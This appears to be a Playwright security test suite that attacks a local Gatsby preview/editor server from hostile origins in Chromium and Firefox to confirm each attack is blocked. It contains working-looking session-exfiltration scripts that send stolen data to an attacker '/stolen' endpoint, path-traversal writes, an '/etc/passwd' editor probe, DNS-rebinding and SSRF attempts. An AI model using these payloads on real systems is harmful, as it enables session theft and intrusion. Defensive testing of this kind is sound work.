import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import puppeteer, { type Browser, type LaunchOptions, type Page } from 'puppeteer-core';
import { quietly } from '../chromium-config';
import { missingPackages, programOf } from '../programs/engines';
import { RunningEdit } from './running';

// Attacks a running `npm run edit` from pages of other origins, as a page that a member of staff opens could.
test.describe.configure({ mode: 'serial' });

const scratch = mkdtempSync(path.join(tmpdir(), 'door-'));
let edit: RunningEdit;
/** What the attacker's server was asked for. */
const asked: string[] = [];
let evil: http.Server;
let secret: http.Server;
let site: string;

const listening = async (server: http.Server) => {
  await new Promise<void>((done) => server.listen(0, done));
  return (server.address() as AddressInfo).port;
};

test.beforeAll(async () => {
  test.setTimeout(900_000);
  const editor = path.join(scratch, 'editor');
  writeFileSync(editor, `#!/bin/sh\necho "$@" >> ${scratch}/opened\n`);
  chmodSync(editor, 0o755);
  process.env.REACT_EDITOR = editor;
  edit = new RunningEdit(8127);
  edit.start();
  secret = http.createServer((_, response) => response.end('secret'));
  evil = http.createServer((request, response) => {
    // Firefox asks every origin for its icon.
    if (request.url !== '/favicon.ico') asked.push(request.url ?? '');
    response.setHeader('Content-Type', 'text/html');
    response.end(
      request.url?.startsWith('/takeover')
        ? `<script>fetch('/___studio/session').then((r) => r.text()).then((t) => { new Image().src = '${site}/stolen?' + encodeURIComponent(t); });</script>`
        : '<!doctype html><title>A page</title><p>A page of another site</p>',
    );
  });
  site = `http://localhost:${await listening(evil)}`;
  await listening(secret);
  await edit.isReady();
});
test.afterAll(async () => {
  for (const server of [evil, secret]) server.close();
  edit.kill('SIGTERM');
  await edit.hasEnded();
  rmSync(scratch, { recursive: true });
});

const chromium = (...args: string[]): LaunchOptions => ({
  browser: 'chrome',
  executablePath: programOf('chromium'),
  args: [...quietly, '--host-resolver-rules=MAP rebound.example 127.0.0.1', ...args],
});
const browsers: Record<string, () => LaunchOptions> = {
  'Chromium with its checks of local networks': () => chromium(),
  'Chromium without them': () =>
    chromium('--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests'),
  Firefox: () => ({
    browser: 'firefox',
    executablePath: programOf('firefox'),
    extraPrefsFirefox: { 'network.dns.localDomains': 'rebound.example', 'dom.disable_open_during_load': false },
  }),
};

for (const [name, options] of Object.entries(browsers))
  test.describe(name, () => {
    const missing = missingPackages(name === 'Firefox' ? 'firefox' : 'chromium');
    test.skip(missing.length > 0 && process.env.ENGINES !== 'all', `apt-get install ${missing.join(' ')}`);

    let browser: Browser;
    let page: Page;
    test.beforeAll(async () => {
      browser = await puppeteer.launch({ ...options(), headless: true });
      // The studio's key is in this browser, as on the computer of whoever edits.
      const own = await browser.newPage();
      await own.goto(edit.printed(), { timeout: 120_000 });
      await own.waitForFunction(() => localStorage.getItem('studio-key') !== null, { timeout: 60_000 });
    });
    test.afterAll(() => browser.close());
    test.beforeEach(async () => {
      page = await browser.newPage();
      await page.goto(site);
      asked.length = 0;
    });
    test.afterEach(async () => {
      await page.close();
      // Whatever was tried, the preview goes on.
      expect((await fetch(edit.at('/faq'))).status).toBe(200);
    });

    /** Opens an address in the tab, from a link on the attacker's page. Returns the text of what is then shown. */
    const follow = async (address: string, method = 'get') => {
      await page.evaluate(
        (to, how) => {
          const form = Object.assign(document.createElement('form'), { method: how, action: to.split('?')[0] ?? '' });
          for (const [field, value] of new URLSearchParams(to.split('?')[1]))
            form.append(Object.assign(document.createElement('input'), { name: field, value }));
          document.body.append(form);
          form.submit();
        },
        address,
        method,
      );
      await page.waitForFunction((from) => !location.href.startsWith(from), {}, site).catch(() => undefined);
      await new Promise((later) => setTimeout(later, 1500));
      return page.evaluate(() => document.body.innerText).catch(() => '');
    };
    /** Fetches an address from the attacker's page. Returns what it can read. */
    const read = (address: string, init: RequestInit = {}) =>
      page.evaluate(
        (to, how) =>
          fetch(to, how).then(
            (answer) => answer.text(),
            () => 'not readable',
          ),
        address,
        init as never,
      );
    const file = (target: string, name = 'a.html') =>
      edit.at(`/_gatsby/file/a/${name}?u=${encodeURIComponent(target)}`);

    test('preview: when a page is to be fetched into its origin, then it is neither fetched nor run', async () => {
      await follow(file(`${site}/takeover.html`));
      expect(asked).toEqual([]);
    });

    test('preview: when files outside the project are to be written, then there are none', async () => {
      const image = `/_gatsby/image/${encodeURIComponent('../../../..')}/${encodeURIComponent('..')}/door-was-open.txt`;
      await follow(edit.at(`${image}?u=${encodeURIComponent(encodeURIComponent(`${site}/x.txt`))}&a=w%3D1`));
      expect(asked).toEqual([]);
      for (const up of ['..', '../..', '../../..', '.'])
        expect(existsSync(path.join(edit.copy, up, 'door-was-open.txt'))).toBe(false);
    });

    test('preview: when another service of this computer is to be read, then its answer does not come', async () => {
      const { port } = secret.address() as AddressInfo;
      expect(await read(file(`http://127.0.0.1:${port}/`))).not.toContain('secret');
      expect(await follow(file(`http://127.0.0.1:${port}/`, 'b.txt'))).not.toContain('secret');
    });

    test('preview: GraphQL and the editor answer no page, not even in a tab of their own', async () => {
      expect(await read(edit.at('/___graphql?query={site{id}}'))).toBe('not readable');
      expect(await follow(edit.at('/___graphql?query={site{id}}'))).not.toContain('data');
      await page.goto(site);
      await follow(edit.at('/__open-stack-frame-in-editor?fileName=/etc/passwd'));
      expect(existsSync(path.join(scratch, 'opened'))).toBe(false);
    });

    test('preview: when an address that ends the development server is opened, then it goes on', async () => {
      await follow(edit.at('/_gatsby/file/a/b?x=1'));
      await page.goto(site);
      await follow(edit.at('/%zz'));
      await new Promise((later) => setTimeout(later, 1000));
      expect((await fetch(edit.at('/'))).status).toBe(200);
    });

    test('preview: when a page of it is framed, then the frame holds nothing of it', async () => {
      await page.evaluate((address) => {
        document.body.append(Object.assign(document.createElement('iframe'), { src: address }));
      }, edit.at('/faq'));
      await new Promise((later) => setTimeout(later, 2000));
      const inside = await page
        .frames()
        .at(-1)
        ?.evaluate(() => document.querySelector('#___gatsby') !== null)
        .catch(() => false);
      expect(inside).toBe(false);
    });

    test('preview: when a page loads or sends anything in the background, then it gets nothing', async () => {
      const address = edit.at('');
      const results = await page.evaluate(async (preview) => {
        const loads = (tag: string, attributes: object) =>
          new Promise<boolean>((done) => {
            const element = Object.assign(document.createElement(tag), attributes, {
              onload: () => {
                done(true);
              },
              onerror: () => {
                done(false);
              },
            });
            document.head.append(element);
            setTimeout(() => {
              done(false);
            }, 3000);
          });
        const fetches = (to: string, how?: RequestInit) =>
          fetch(to, how).then(
            (answer) => answer.type !== 'opaque' && answer.ok,
            () => false,
          );
        const socket = (to: string) =>
          new Promise<boolean>((done) => {
            const opened = new WebSocket(to);
            opened.onopen = () => {
              done(true);
            };
            opened.onerror = () => {
              done(false);
            };
          });
        const { port } = new URL(preview);
        return {
          image: await loads('img', { src: `${preview}/favicon.svg` }),
          script: await loads('script', { src: `${preview}/commons.js` }),
          style: await loads('link', { rel: 'stylesheet', href: `${preview}/commons.css` }),
          page: await fetches(`${preview}/faq`),
          session: await fetches(`${preview}/___studio/session`),
          save: await fetches(`${preview}/___studio/save`, { method: 'POST', body: '{}' }),
          'with a header': await fetches(`${preview}/___studio/session`, { headers: { 'x-studio-key': 'a' } }),
          'under the name localhost': await fetches(`http://localhost:${port}/faq`),
          'under IPv6': await fetches(`http://[::1]:${port}/faq`),
          socket: await socket(`${preview.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`),
          stream: await new Promise<boolean>((done) => {
            const source = new EventSource(`${preview}/___preview`);
            source.onopen = () => {
              source.close();
              done(true);
            };
            source.onerror = () => {
              source.close();
              done(false);
            };
          }),
        };
      }, address);
      expect(Object.entries(results).filter(([, reached]) => reached)).toEqual([]);
    });

    test('preview: when it is opened under another name, then nothing of it is shown', async () => {
      const { port } = new URL(edit.at('/'));
      for (const host of ['localhost', 'LOCALHOST', '127.0.0.1.', 'rebound.example', '[::1]']) {
        const shown = await page
          .goto(`http://${host}:${port}/faq`, { timeout: 10_000 })
          .then(async (answer) => [answer?.status(), await page.evaluate(() => location.hostname)] as const)
          .catch(() => ['unreachable', host] as const);
        // A browser may write a name as the number that it means, and then it is the printed address.
        if (shown[1] !== '127.0.0.1') expect([403, 'unreachable']).toContain(shown[0]);
      }
    });

    test('preview: when a form of another page posts to it, then it is refused', async () => {
      expect(await follow(edit.at('/___studio/save?changes=x'), 'post')).not.toMatch(/saved|Questions/);
      await page.goto(site);
      await follow(edit.at('/faq?x=1'), 'post');
      expect(await page.evaluate(() => document.querySelector('#___gatsby') !== null).catch(() => false)).toBe(false);
    });

    test('preview: a sandboxed page, whose origin is null, gets nothing', async () => {
      await page.evaluate(
        (preview, home) => {
          const script = `fetch('${preview}/___studio/session').then((r) => r.text()).then((t) => fetch('${home}/stolen?' + t, { mode: 'no-cors' }))`;
          document.body.append(
            Object.assign(document.createElement('iframe'), {
              sandbox: 'allow-scripts',
              srcdoc: `<script>${script}</script>`,
            }),
          );
        },
        edit.at(''),
        site,
      );
      await new Promise((later) => setTimeout(later, 1500));
      expect(asked.filter((url) => url.startsWith('/stolen'))).toEqual([]);
    });

    test('preview: when a link of another site opens a page, then it is shown, and the site has no hold on it', async () => {
      const [popup] = await Promise.all([
        new Promise<Page | null>((opened) => page.once('popup', opened)),
        page.evaluate((address) => {
          const link = Object.assign(document.createElement('a'), { href: address, target: '_blank', rel: 'opener' });
          document.body.append(link);
          link.click();
        }, edit.at('/faq')),
      ]);
      await popup?.waitForSelector('h1', { timeout: 30_000 });
      expect(await popup?.evaluate(() => window.opener === null)).toBe(true);
      await popup?.close();
    });

    test('preview: a page of it registers no service worker, and runs no script inside a text', async () => {
      await page.goto(edit.at('/faq'));
      await page.waitForSelector('h1');
      const result = await page.evaluate(async () => {
        const worker = await navigator.serviceWorker.register('/commons.js').then(
          () => true,
          () => false,
        );
        const script = document.createElement('script');
        script.textContent = 'window.ran = true';
        document.head.append(script);
        return { worker, ran: 'ran' in window };
      });
      expect(result).toEqual({ worker: false, ran: false });
    });
  });

test('preview: every address that Gatsby has registered is on the list of the decision, as allowed or refused', () => {
  const routes = readFileSync(path.join(edit.copy, '.tmp/preview-routes.txt'), 'utf8').trim().split('\n');
  const decision = readFileSync(path.join(__dirname, '../../docs/decisions/preview-server.md'), 'utf8');
  // `| ` `/address` ` | allowed: page | why |`
  const listed = new Map(
    [...decision.matchAll(/^\| `(.+?)` +\| (\w+)/gm)].map(([, address = '', verdict = '']) => [
      address.replaceAll('\\|', '|'),
      verdict,
    ]),
  );
  const unlisted = routes
    .map((line) => line.split('\t'))
    .filter(([verdict = '', , address = '']) => listed.get(address) !== verdict.split(':')[0]);
  expect(unlisted).toEqual([]);
});
